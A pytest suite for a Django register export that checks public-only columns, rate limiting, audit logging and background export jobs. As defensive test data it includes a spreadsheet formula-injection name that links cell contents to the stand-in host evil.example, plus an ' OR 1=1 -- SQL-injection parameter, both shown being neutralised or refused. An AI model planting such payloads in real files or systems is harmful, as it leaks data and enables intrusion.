"""Register export: public columns only, formula neutralising, CSV streaming, XLSX, ticked rows,
bad parameters, rate limit, audit, and the background job for large results."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import OperationalError
from django.http import QueryDict, StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from core.models import AuditEntry
from registry import tasks
from registry.exports import services as exports
from registry.models import AdmissionStatus, ExportJob
from tests.factories import CategoryFactory, RegionFactory, SpecialtyFactory, WorkerFactory

CSV_URL = reverse("registry:export_csv")
XLSX_URL = reverse("registry:export_xlsx")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1;"нажми")'


@pytest.fixture(autouse=True)
def _exports_in_tmp(settings, tmp_path):
    settings.VAR_DIR = tmp_path


@pytest.fixture
def workers(db):
    region = RegionFactory(code="77", name="Москва")
    specialty = SpecialtyFactory(name="Терапия")
    category = CategoryFactory(name="Высшая квалификационная категория")
    common = {
        "region": region,
        "primary_specialty": specialty,
        "category": category,
        "admission_status": AdmissionStatus.ACTIVE,
        "admission_valid_until": dt.date(2030, 1, 31),
        "registered_on": dt.date(2024, 3, 1),
        "birth_date": dt.date(1979, 11, 23),
    }
    a = WorkerFactory(
        last_name="Иванова",
        first_name="Мария",
        middle_name="Петровна",
        email="maria.private@example.org",
        phone="+79161234567",
        **common,
    )
    b = WorkerFactory(last_name="Петров", first_name="Иван", middle_name="", **common)
    hostile = WorkerFactory(last_name=HOSTILE_NAME, first_name="Анна", middle_name="", **common)
    return [a, b, hostile]


def csv_text(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.django_db
def test_csv_is_streamed_with_only_public_columns(client, workers):
    response = client.get(CSV_URL)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = csv_text(response)
    header, *rows = csv_rows(text)
    assert header == exports.HEADERS
    assert len(rows) == 3
    maria = next(r for r in rows if r[0] == "Иванова Мария Петровна")
    assert maria == [
        "Иванова Мария Петровна",
        workers[0].registry_number_display,
        "Терапия",
        "Москва",
        "Действует",
        "31.01.2030",
        "Высшая",
        "01.03.2024",
    ]
    for worker in workers:
        assert worker.snils not in text
        assert worker.inn not in text
    for secret in ("23.11.1979", "1979-11-23", "maria.private@example.org", "+79161234567", "9161234567"):
        assert secret not in text


@pytest.mark.django_db
def test_formula_cells_are_neutralised_in_csv(client, workers):
    text = csv_text(client.get(CSV_URL))
    assert "'=HYPERLINK" in text
    assert ";=HYPERLINK" not in text and "\n=HYPERLINK" not in text and '"=HYPERLINK' not in text


@pytest.mark.parametrize("value", ["=1+1", "+7", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_neutralize_prefixes_dangerous_starts(value):
    assert exports.neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванова", "МР 123456789-0", "", None, dt.date(2024, 1, 1), "a=b"])
def test_neutralize_leaves_safe_values(value):
    assert exports.neutralize(value) == value


@pytest.mark.django_db
def test_xlsx_opens_with_the_rows_and_no_formula(client, workers):
    response = client.get(XLSX_URL, {"sort": "registry_number"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == exports.HEADERS
    assert [row[1] for row in values[1:]] == sorted(w.registry_number_display for w in workers)
    names = [row[0] for row in values[1:]]
    assert any(name.startswith("'" + HOSTILE_NAME) for name in names)
    assert values[1][5:] == ("31.01.2030", "Высшая", "01.03.2024")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    flat = " ".join(str(v) for row in values for v in row)
    assert workers[0].snils not in flat and workers[0].email not in flat and "1979" not in flat


@pytest.mark.django_db
def test_ticked_ids_export_only_those_rows(client, workers):
    response = client.get(CSV_URL, {"ids": [workers[1].registry_number, workers[2].registry_number]})
    _header, *rows = csv_rows(csv_text(response))
    assert sorted(r[1] for r in rows) == sorted(
        [workers[1].registry_number_display, workers[2].registry_number_display]
    )


@pytest.mark.django_db
def test_search_parameters_filter_the_export(client, workers):
    _header, *rows = csv_rows(csv_text(client.get(CSV_URL, {"q": "иван мар"})))
    assert [r[0] for r in rows] == ["Иванова Мария Петровна"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "text"),
    [
        ({"region": "999"}, "Регион: неизвестный код"),
        ({"registered_from": "вчера"}, "Включён в регистр с"),
        ({"sort": "snils"}, "Сортировка"),
        ({"ids": "12345"}, "Отмеченные строки"),
        ({"ids": "12345678ab"}, "Отмеченные строки"),
        ({"ids": "' OR 1=1 --"}, "Отмеченные строки"),
        ({"ids": [f"{n:010d}" for n in range(1001)]}, "не больше 1000"),
    ],
)
def test_bad_parameters_are_400_naming_the_field(client, params, text):
    for url in (CSV_URL, XLSX_URL):
        response = client.get(url, params)
        assert response.status_code == 400
        assert text in response.content.decode()
    assert not AuditEntry.objects.filter(event=AuditEntry.Event.EXPORT).exists()


@pytest.mark.django_db
def test_more_than_1000_ticked_ids_are_refused_and_1000_accepted(workers):
    data = QueryDict(mutable=True)
    data.setlist("ids", [f"{n:010d}" for n in range(1001)])
    with pytest.raises(exports.ExportParamsError, match="не больше 1000"):
        exports.parse_params(data)
    data.setlist("ids", [w.registry_number for w in workers] + [f"{n:010d}" for n in range(997)])
    _cleaned, ids = exports.parse_params(data)
    assert exports.export_queryset(_cleaned, ids).count() == 3


@pytest.mark.django_db
def test_exports_are_rate_limited_per_ip(client, workers):
    for _ in range(10):
        assert client.get(CSV_URL, {"ids": workers[0].registry_number}).status_code == 200
    response = client.get(XLSX_URL)
    assert response.status_code == 429
    assert "Retry-After" in response
    assert Client(REMOTE_ADDR="10.0.0.9").get(CSV_URL).status_code == 200


@pytest.mark.django_db
def test_every_export_is_written_to_the_audit_journal(client, workers):
    client.get(CSV_URL, {"region": "77"})
    client.get(XLSX_URL, {"ids": workers[0].registry_number})
    entries = list(AuditEntry.objects.filter(event=AuditEntry.Event.EXPORT).order_by("id"))
    assert [(e.details["format"], e.details["rows"]) for e in entries] == [("csv", 3), ("xlsx", 1)]
    assert entries[0].details["params"] == {"region": ["77"]}
    assert entries[1].details["ticked"] == 1
    assert all(e.subject is None and e.ip == "127.0.0.1" for e in entries)


# --- Large results: the background job ----------------------------------------------------------


@pytest.fixture
def small_threshold(monkeypatch):
    monkeypatch.setattr(exports, "ASYNC_THRESHOLD", 5)


@pytest.fixture
def many_workers(workers):
    return workers + WorkerFactory.create_batch(4)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_large_export_runs_as_a_job_with_progress_and_download(
    client, many_workers, small_threshold, on_commit_immediate, fmt
):
    response = client.get(reverse(f"registry:export_{fmt}"), {"region": ""})
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("registry:export_job", args=[job.pk])
    # Inline Celery: the job ran when the request's transaction committed.
    assert (job.status, job.progress, job.rows, job.format) == ("done", 100, 7, fmt)
    entry = AuditEntry.objects.get(event=AuditEntry.Event.EXPORT)
    assert entry.details["job"] == str(job.pk) and entry.details["format"] == fmt

    page = client.get(response["Location"])
    assert page.status_code == 200
    assert '<progress max="100" value="100"' in page.content.decode()
    download_url = reverse("registry:export_job_download", args=[job.pk])
    assert download_url in page.content.decode()

    download = client.get(download_url)
    assert download.status_code == 200
    content = b"".join(download.streaming_content)
    if fmt == "csv":
        text = content.decode("utf-8")
        assert text.count("\r\n") == 8 and "'=HYPERLINK" in text
        assert many_workers[0].snils not in text
    else:
        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
        assert len(rows) == 8


@pytest.mark.django_db
def test_job_page_and_download_are_404_for_another_session(client, many_workers, small_threshold, on_commit_immediate):
    client.get(CSV_URL)
    job = ExportJob.objects.get()
    stranger = Client()
    assert stranger.get(reverse("registry:export_job", args=[job.pk])).status_code == 404
    assert stranger.get(reverse("registry:export_job_download", args=[job.pk])).status_code == 404
    assert client.get(reverse("registry:export_job_download", args=[job.pk])).status_code == 200


@pytest.mark.django_db
def test_unknown_job_is_404(client):
    assert client.get(reverse("registry:export_job", args=["00000000-0000-0000-0000-000000000000"])).status_code == 404


@pytest.mark.django_db
def test_job_status_partial_polls_while_running(client, many_workers, small_threshold, monkeypatch):
    monkeypatch.setattr(tasks.run_export, "apply_async", lambda *a, **k: None)  # the worker has not started yet
    client.get(CSV_URL)
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.QUEUED
    partial = client.get(reverse("registry:export_job", args=[job.pk]), HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 2s"' in partial and "<progress" in partial and "<html" not in partial
    assert client.get(reverse("registry:export_job_download", args=[job.pk])).status_code == 404


@pytest.mark.django_db
def test_running_the_task_twice_does_the_work_once(many_workers, settings):
    job = ExportJob.objects.create(format="csv", params={"region": ["77"]})
    assert tasks.run_export(str(job.pk)) == "done"
    job.refresh_from_db()
    path = exports.job_file_path(job)
    first_mtime = path.stat().st_mtime_ns
    path.write_text("kept")  # a second run would overwrite it
    assert tasks.run_export(str(job.pk)) == "skipped"
    job.refresh_from_db()
    assert (job.status, job.rows, path.read_text()) == ("done", 3, "kept")
    assert first_mtime <= path.stat().st_mtime_ns


@pytest.mark.django_db
def test_database_error_gives_the_claim_back_for_the_retry(many_workers, monkeypatch):
    job = ExportJob.objects.create(format="xlsx", params={})

    def broken(*args, **kwargs):
        raise OperationalError("connection lost")

    monkeypatch.setattr(exports, "export_queryset", broken)
    with pytest.raises(OperationalError):
        exports.export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.QUEUED
    monkeypatch.undo()
    assert exports.export_job_run(job_id=job.pk) == "done"


@pytest.mark.django_db
def test_progress_is_reported_every_chunk(many_workers, monkeypatch):
    # XLSX counts rows in Python every CHUNK_SIZE rows (CSV on PostgreSQL reports per COPY buffer).
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    seen = []
    job = ExportJob.objects.create(format="xlsx", params={})
    original = ExportJob.objects.filter

    def spy(*args, **kwargs):
        qs = original(*args, **kwargs)
        update = qs.update

        def recording_update(**fields):
            if "progress" in fields:
                seen.append(fields["progress"])
            return update(**fields)

        qs.update = recording_update
        return qs

    monkeypatch.setattr(ExportJob.objects, "filter", spy)
    exports.export_job_run(job_id=job.pk)
    assert seen[1:4] == [28, 57, 85] and seen[-1] == 100


@pytest.mark.django_db
def test_csv_export_query_count_does_not_grow_with_rows(client, many_workers, django_assert_max_num_queries):
    # count + audit insert + one chunked select with the directories joined (no query per row)
    with django_assert_max_num_queries(4):
        assert len(csv_rows(csv_text(client.get(CSV_URL)))) == 8


@pytest.mark.django_db
def test_search_results_link_to_exports_with_the_same_parameters(client, workers):
    page = client.get(reverse("registry:search"), {"region": "77", "status": "active"}).content.decode()
    assert f'href="{CSV_URL}?region=77&amp;status=active"' in page
    assert f'href="{XLSX_URL}?region=77&amp;status=active"' in page


@pytest.mark.django_db
def test_a_failing_job_is_marked_failed_and_leaves_no_file(client, many_workers, monkeypatch, tmp_path):
    job = ExportJob.objects.create(format="csv", params={})

    def broken(*args, **kwargs):
        raise ValueError("boom")

    monkeypatch.setattr(exports, "csv_document", broken)
    assert exports.export_job_run(job_id=job.pk) == "failed"
    job.refresh_from_db()
    assert (job.status, job.error) == ("failed", "внутренняя ошибка")
    assert not list((tmp_path / "exports").glob("*"))


@pytest.mark.django_db
def test_postgresql_copy_writes_the_same_csv_as_python(many_workers):
    """The COPY path formats cells in SQL; it must give byte for byte what csv_chunks gives."""
    from django.db import connection

    from registry.search import engine as search
    from tests.conftest import skip_or_fail

    if connection.vendor != "postgresql":
        skip_or_fail("COPY ... TO STDOUT is PostgreSQL's")
    WorkerFactory(last_name="-Минус", first_name="@Собака", middle_name="+Плюс", registry_number="12345")
    WorkerFactory(last_name="Кавычки", first_name='Анна "Аня"', middle_name="Точка;Запятая")
    qs = search.worker_search({}).queryset
    done = []
    copied = "".join(exports.csv_document(qs, progress=done.append))
    assert copied == "".join(exports.csv_chunks(exports.iter_rows(qs)))
    assert done[-1] == qs.count()


@pytest.mark.django_db
def test_running_csv_job_shows_the_progress_the_copy_reported(client, on_commit_immediate):
    from django.core.cache import cache

    job = ExportJob.objects.create(format="csv", params={}, status=ExportJob.Status.RUNNING, progress=0)
    cache.set(f"registry:export-progress:{job.pk}", 42, 60)
    assert exports.job_progress(job) == 42
    job.status = ExportJob.Status.DONE
    job.progress = 100
    assert exports.job_progress(job) == 100
